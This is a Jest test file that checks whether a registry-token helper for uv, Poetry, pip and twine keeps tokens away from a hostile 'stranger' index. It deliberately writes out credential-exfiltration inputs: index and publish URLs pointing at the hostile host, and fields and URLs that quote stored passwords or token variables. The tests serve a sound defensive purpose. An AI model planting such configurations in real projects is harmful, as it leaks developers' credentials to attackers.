import { mkdir, writeFile } from 'node:fs/promises'
import { delimiter, dirname, join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals'
import { buildWheel } from '../../scripts/emulator/wheel.ts'
import { checkout } from '../../scripts/testbed/checkout.ts'
import type { PoetryLine } from '../../scripts/testbed/poetry.ts'
import { run } from '../../scripts/testbed/run.ts'
import { declared, plugin } from './pyproject.ts'
import { openStage, type Stage } from './stage.ts'
import { openStranger, type Stranger, tokensIn } from './stranger.ts'

jest.setTimeout(240_000)

let stage: Stage
let stranger: Stranger
let env: Record<string, string | undefined>

async function open(line: PoetryLine = '2.5'): Promise<void> {
  stranger = await openStranger(() => stage.url)
  stage = await openStage({ keyring: 'no-bus', line })
  const PATH = [checkout('.cache/tools/bin'), stage.env['PATH']].join(delimiter)
  const retries = { UV_HTTP_RETRIES: '0', PIP_RETRIES: '0' }
  // Whoever else is asked is the stranger: he is the proxy to all the world.
  // He has nothing that could be installed, so Poetry needs no venv.
  const nowhere = { PIP_FIND_LINKS: undefined, POETRY_VIRTUALENVS_CREATE: 'false' }
  env = { ...stage.env, ...retries, ...nowhere, PATH, HTTPS_PROXY: stranger.url, EVIL: evil() }
}
async function close(): Promise<void> {
  stranger.close()
  await stage.close()
}

const evil = () => `${stranger.url}/simple/`

/** Files by their paths in the project, and the command that is to ask the stranger for something. */
type Files = Readonly<Record<string, string | Buffer>>
type Form = readonly [title: string, command: string, files: () => Files | Promise<Files>]

async function write(folder: string, files: Files): Promise<string> {
  for (const [path, content] of Object.entries(files)) {
    await mkdir(dirname(join(folder, path)), { recursive: true })
    await writeFile(join(folder, path), content)
  }
  return folder
}

let forms = 0
/** A folder of its own for a form. */
function place(files: Files): Promise<string> {
  forms += 1
  return write(join(stage.box.home, `form-${forms}/app`), files)
}

/** Runs a form with a token; gives what the stranger heard in between. */
async function heardOf([, command, files]: Form, options: readonly string[]): Promise<readonly string[]> {
  const cwd = await place(await files())
  const [asked, minted] = [stranger.heard.length, stage.emulator.issuedTokens().length]
  await stage.caSync(['exec', ...options, '--', 'sh', '-c', command], { env, cwd, timeoutMs: 120_000 })
  expect(stage.emulator.issuedTokens().length).toBeGreaterThan(minted)
  return stranger.heard.slice(asked).filter((request) => !request.startsWith('CONNECT'))
}

/** The stranger was asked, and is none the wiser. */
async function nothingTold(form: Form, options: readonly string[] = []): Promise<void> {
  const heard = await heardOf(form, options)
  expect(heard).not.toEqual([])
  expect(tokensIn(stage, heard)).toEqual([])
}

/** The command does not start, no token is asked for, and the message has what would send it elsewhere. */
async function refused(command: readonly string[], cwd: string, options: readonly string[] = []): Promise<void> {
  const [asked, minted] = [stranger.heard.length, stage.emulator.issuedTokens().length]
  const { code, stderr } = await stage.caSync(['exec', ...options, '--', ...command], { env, cwd })
  expect({ code, stderr }).toEqual({ code: 3, stderr: expect.stringMatching(/127\.0\.0\.1|\{http-basic…\}/) })
  expect([stranger.heard.length, stage.emulator.issuedTokens().length]).toEqual([asked, minted])
}

const wanted = 'some-lib'
const dist = () => ({ 'dist/app-0.1.0-py3-none-any.whl': buildWheel({ name: 'app', version: '0.1.0' }).content })

describe('uv, and a stranger whose index has the name of ours', () => {
  beforeAll(() => open())
  afterAll(close)

  const settings = (name: string) => `[[index]]\nname = "${name}"\nurl = "${evil()}"\n`
  const index = (name: string, more = '') => `${settings(name).replace('index', 'tool.uv.index')}${more}\n`
  const project = (name: string, dependencies: readonly string[], more = '') =>
    `[project]\nname = "${name}"\nversion = "0.1.0"\nrequires-python = ">=3.9"\ndependencies = ${JSON.stringify(dependencies)}\n${more}\n`
  const ours = (dependencies: readonly string[], more = '') => project('app', dependencies, `${plugin()}\n${more}`)
  const from = (name: string) => `[tool.uv.sources]\n${wanted} = { index = "${name}" }\n`
  const theirs = (name: string) => project('lib', [wanted], `${from(name)}${index(name)}`)
  const lib = (source: string) => ours(['lib'], `[tool.uv.sources]\nlib = { ${source} }\n`)
  const script = (name: string) =>
    `# /// script\n# dependencies = ["${wanted}"]\n${`${from(name)}${index(name)}`.trimEnd().replaceAll(/^/gm, '# ')}\n# ///\n`
  const lock = 'uv lock'
  const alone = (more: () => string) => () => ({ 'pyproject.toml': ours([wanted], more()) })
  const beside = (path: string, text: string | Buffer) => ({ 'pyproject.toml': ours([wanted]), [path]: text })

  /** A git repository of its own with these files. */
  async function repository(files: Files): Promise<string> {
    const folder = await write(join(stage.box.dir, 'git/lib'), files)
    const git = 'git init -q && git add . && git -c user.name=S -c user.email=s@example.com commit -qm lib'
    expect(await run('sh', ['-c', git], { env: stage.env, cwd: folder })).toMatchObject({ code: 0 })
    return pathToFileURL(folder).href
  }

  const table: readonly Form[] = [
    ['the project itself', lock, alone(() => index('dev'))],
    ['in capitals', lock, alone(() => index('DEV'))],
    ['that is asked for one package only', lock, alone(() => from('DEV') + index('DEV', 'explicit = true'))],
    ['in place of PyPI', lock, alone(() => index('dev', 'default = true'))],
    ['that sends one on to our host', lock, alone(() => index('DEV').replace('/simple/', '/to/pypi/dev/simple/'))],
    ['with our user name', lock, alone(() => index('DEV').replace('://', '://aws@'))],
    [
      'with our host as user name',
      lock,
      alone(() => index('DEV').replace('://', `://${new URL(stage.url).hostname}@`)),
    ],
    [
      'in a workspace member',
      lock,
      () => ({
        'pyproject.toml': `${lib('workspace = true')}[tool.uv.workspace]\nmembers = ["lib"]\n`,
        'lib/pyproject.toml': theirs('DEV'),
      }),
    ],
    [
      'in a path dependency',
      lock,
      () => ({ 'pyproject.toml': lib('path = "lib"'), 'lib/pyproject.toml': theirs('DEV') }),
    ],
    [
      'in a git dependency of a project that is all our own',
      lock,
      async () => ({ 'pyproject.toml': lib(`git = "${await repository({ 'pyproject.toml': theirs('DEV') })}"`) }),
    ],
    ['in a script', `${lock} --script script.py`, () => beside('script.py', script('DEV'))],
    ['in a script that runs', 'uv run --no-project script.py', () => beside('script.py', script('DEV'))],
    ['in a uv.toml', lock, () => beside('uv.toml', settings('dev'))],
    ['in a uv.toml with a byte-order mark', lock, () => beside('uv.toml', `\ufeff${settings('DEV')}`)],
    ['in a uv.toml of more than 1 MiB', lock, () => beside('uv.toml', settings('DEV') + '#\n'.repeat(600_000))],
    [
      'in a uv.toml in TOML 1.1',
      lock,
      () => beside('uv.toml', `index = [{\n  name = "DEV",\n  url = "${evil()}",\n}]\n`),
    ],
    ['in a uv.toml above', lock, () => beside('../uv.toml', settings('DEV'))],
    [
      'in a pyproject.toml above',
      lock,
      () => beside('../pyproject.toml', project('top', [], `${index('DEV')}[tool.uv.workspace]\nmembers = ["app"]\n`)),
    ],
    ['in a variable', `UV_INDEX="$UV_INDEX DEV=$EVIL" ${lock}`, alone(() => '')],
    ['in requirements', 'uv pip compile in.txt', () => beside('in.txt', `--extra-index-url ${evil()}\n${wanted}\n`)],
    [
      'in another project, whose folder the command goes to',
      `cd ../other && ${lock}`,
      () => beside('../other/pyproject.toml', theirs('DEV')),
    ],
    [
      'in another project that the command is about',
      `${lock} --project ../other`,
      () => beside('../other/pyproject.toml', theirs('DEV')),
    ],
    [
      'where it publishes',
      'uv publish; uv publish --publish-url "$EVIL"; uv publish -u aws -p x --publish-url "$EVIL"',
      () => ({
        'pyproject.toml': ours([], `[tool.uv]\npublish-url = "${evil()}"\ncheck-url = "${evil()}"\n`),
        ...dist(),
      }),
    ],
    [
      'where it publishes by that name',
      'unset UV_PUBLISH_URL; uv publish --index dev; uv publish -u aws -p x --index dev',
      () => ({ 'pyproject.toml': ours([], index('dev', `publish-url = "${evil()}"`)), ...dist() }),
    ],
    ["in the user's own uv.toml", lock, () => beside('../../.config/uv/uv.toml', settings('DEV'))],
  ]

  const options = ['--for', 'uv', '-s', 'dev']
  test.each(table)('%s', async (...form) => nothingTold(form, options))

  // Where only uv sees his, ours takes its place.
  const unseen: readonly Form[] = [
    ['a script', 'uv run --no-project script.py', () => beside('script.py', script('dev'))],
    ['another project', `cd ../other && ${lock}`, () => beside('../other/pyproject.toml', theirs('dev'))],
    ['a path dependency', lock, () => ({ 'pyproject.toml': lib('path = "lib"'), 'lib/pyproject.toml': theirs('dev') })],
  ]
  test.each(unseen)('by the very name, in %s', async (...form) => {
    expect(tokensIn(stage, await heardOf(form, options))).toEqual([])
  })
})

describe.each(['2.5', '1.8'] as const)('Poetry %s, and a stranger', (line) => {
  beforeAll(() => open(line))
  afterAll(close)

  const described = (...tables: readonly string[]) =>
    `[tool.poetry]\nname = "app"\nversion = "0.1.0"\ndescription = ""\nauthors = ["S <s@example.com>"]\n
[tool.poetry.dependencies]\npython = ">=3.9"\n\n${tables.join('\n')}`
  const ours = (name: string, ...tables: readonly string[]) => described(plugin({ name }), ...tables)
  const his = (name: string, url = evil) => declared(name, url())
  const add = (name: string) => `poetry add ${wanted} --source ${name} -n`
  const publish = (name: string) => `poetry publish -n -r ${name}`
  const sources =
    (name: string, source: string, url = evil) =>
    () => ({
      'pyproject.toml': ours(name, his(source, url)),
    })
  /** A login of his own, in which he quotes ours. */
  const quoting = (username: string) => () => ({
    'pyproject.toml': ours('dev', his('evil')),
    'poetry.toml': `[http-basic.evil]\nusername = "${username}"\npassword = "x"\n[http-basic.dev]\nusername = "x"\n`,
  })

  const publishing = (path: string) => () => ({
    'pyproject.toml': ours('dev'),
    'poetry.toml': `[repositories.evil]\nurl = "${stranger.url}/${path}/"\n[http-basic]\nevil.password = "x"\ndev.password = "x"\n`,
    ...dist(),
  })

  const table: readonly Form[] = [
    ['whose source is the same variable', add('my_dev'), sources('my-dev', 'my_dev')],
    ['with our user name', add('my_dev'), sources('my-dev', 'my_dev', () => evil().replace('://', '://aws@'))],
    [
      'who sends one on to our host',
      add('my_dev'),
      sources('my-dev', 'my_dev', () => `${stranger.url}/to/pypi/dev/simple/`),
    ],
    ['who quotes our password as his name', add('evil'), quoting('{http-basic.dev.password}')],
    ['who writes the quote otherwise', add('evil'), quoting('{http_basic-dev.password}')],
    ['who quotes our password in where to publish', publish('evil'), publishing('{http-basic.dev.password}')],
    ['who quotes all of our login there', publish('evil'), publishing('{http-basic.dev}')],
    ['who quotes all logins there', publish('evil'), publishing('{http-basic}')],
  ]
  test.each(table)('%s', async (_, command, files) => {
    await refused(['sh', '-c', command], await place(await files()))
  })

  const quoted = () => ({
    '../other/pyproject.toml': described(his('evil')),
    '../other/poetry.toml': quoting('{http-basic.dev.password}')()['poetry.toml'],
  })
  const theirs = () => ({ '../other/pyproject.toml': described(his('dev')) })
  const elsewhere: readonly Form[] = [
    ['before the command', 'poetry -C ../other add some-lib --source dev -n', theirs],
    ['joined, and by his quote', 'poetry add some-lib --source evil -nC../other', quoted],
    ['behind it', 'poetry add some-lib --source dev -n --directory ../other', theirs],
    ['with =', `poetry add some-lib --source dev -n --directory=../other`, theirs],
  ]
  const projects: readonly Form[] = [
    ['as a project', 'poetry -P ../other add some-lib --source dev -n', theirs],
    ['as a project, behind', 'poetry add some-lib --source dev -n --project=../other', theirs],
    ['in short', 'poetry add some-lib --source dev -n --dir ../other', theirs],
    ['from a folder', 'poetry add some-lib --source dev -n -C .. -P other', theirs],
  ]
  test.each([...elsewhere, ...(line === '2.5' ? projects : [])])(
    'whose project Poetry is sent to: %s',
    async (_, command, files) => {
      const cwd = await place({ 'pyproject.toml': ours('dev'), ...(await files()) })
      await refused(command.split(' '), cwd)
      await refused(['sh', '-c', command], cwd)
      // In a script it is not seen: docs/security.md warns of that. It shows that Poetry does go there.
      const script = async () => ({ 'pyproject.toml': ours('dev'), ...(await files()), 'go.sh': command })
      const through: Form = ['', 'sh ./go.sh', script]
      expect(tokensIn(stage, await heardOf(through, []))).not.toEqual([])
    },
  )

  test('whose project one is in, with tokens of another', async () => {
    const cwd = await place({ 'pyproject.toml': ours('dev'), ...theirs() })
    await refused(['poetry', 'add', wanted, '--source', 'dev'], join(cwd, '../other'), ['-C', cwd])
  })
})

describe('pip and twine, and a stranger', () => {
  beforeAll(() => open())
  afterAll(close)

  const pip = 'pip download --no-input -q -r in.txt'
  const requirements = (option: () => string) => () => ({
    'pyproject.toml': plugin(),
    'in.txt': `${option()}\n${wanted}\n`,
  })
  const upload = 'twine upload --non-interactive --disable-progress-bar'
  const files = () => ({ 'pyproject.toml': plugin(), ...dist() })
  const pipForms: readonly Form[] = [
    ['for the index', pip, requirements(() => `--index-url ${evil()}`)],
    ['for another index', pip, requirements(() => `--extra-index-url ${evil()}`)],
    ['with our user name', pip, requirements(() => `--extra-index-url ${evil().replace('://', '://aws@')}`)],
    ['who sends one on to our host', pip, requirements(() => `--extra-index-url ${stranger.url}/to/pypi/dev/simple/`)],
    ['for links', pip, requirements(() => `--find-links ${evil()}`)],
    ['in a variable', `PIP_EXTRA_INDEX_URL=$EVIL ${pip}`, requirements(() => '')],
  ]
  const twineForms: readonly Form[] = [
    [
      'on the command line',
      `${upload} --repository-url $EVIL dist/*; ${upload} -p x --repository-url $EVIL dist/*`,
      files,
    ],
    ['in a variable', `export TWINE_REPOSITORY_URL=$EVIL; ${upload} dist/*; ${upload} -p x dist/*`, files],
    [
      'in .pypirc',
      `unset TWINE_REPOSITORY_URL; ${upload} --config-file .pypirc -r dev dist/*`,
      () => ({
        ...files(),
        '.pypirc': `[distutils]\nindex-servers = dev\n[dev]\nrepository = ${evil()}\npassword = x\n`,
      }),
    ],
  ]
  test.each(pipForms)('pip: %s', async (...form) => nothingTold(form, ['--for', 'pip']))
  test.each(twineForms)('twine: %s', async (...form) => nothingTold(form, ['--for', 'twine', '-s', 'dev']))

  test('twine goes to ours, whatever the names in .pypirc', async () => {
    const form: Form = [
      '',
      `${upload} -r dev dist/*`,
      () => ({ ...files(), '../../.pypirc': `[dev]\nrepository = ${evil()}\n` }),
    ]
    expect(await heardOf(form, ['--for', 'twine', '-s', 'dev'])).toEqual([])
    expect(stage.emulator.requests.filter(({ method, status }) => method === 'POST' && status === 200)).toHaveLength(1)
  })

  // README warns of these. Where one fails, the tool has been mended, and the warning is to go.
  const quoted = (name: string) => `x @ ${stranger.url}/x-1.0-py3-none-any.whl?\${${name}}`
  test.each<Form>([
    ['pip', pip, () => ({ 'pyproject.toml': plugin(), 'in.txt': `${quoted('PIP_INDEX_URL')}\n` })],
    ['uv', 'uv pip compile in.txt', () => ({ 'pyproject.toml': plugin(), 'in.txt': `${quoted('UV_INDEX')}\n` })],
    [
      'poetry',
      'uv pip compile in.txt',
      () => ({ 'pyproject.toml': plugin(), 'in.txt': `${quoted('POETRY_HTTP_BASIC_DEV_PASSWORD')}\n` }),
    ],
  ])('variables for %s, which pip or uv puts into a URL where a file names them', async (...form) => {
    expect(tokensIn(stage, await heardOf(form, ['--for', form[0]]))).not.toEqual([])
  })
})
